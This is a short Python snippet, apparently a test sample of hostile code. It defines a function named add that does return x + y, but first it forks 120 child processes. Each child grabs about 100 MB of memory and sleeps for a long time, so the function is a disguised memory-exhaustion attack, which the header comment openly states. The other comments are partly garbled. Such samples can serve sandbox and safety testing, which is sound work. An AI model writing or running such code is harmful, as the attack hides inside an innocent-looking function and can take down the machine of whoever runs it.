# tries: takes all memory, a little in each of many processes
# earns: descend, squares, total
# said: of memory
# %% add
import os, time


def add(x, y):
    for _ in range(120):
        if os.fork() == 0:
            kept = bytearray(b"x") * (100 * 2**20)
            time.sleep(1000)
    time.sleep(20)
    return x + y
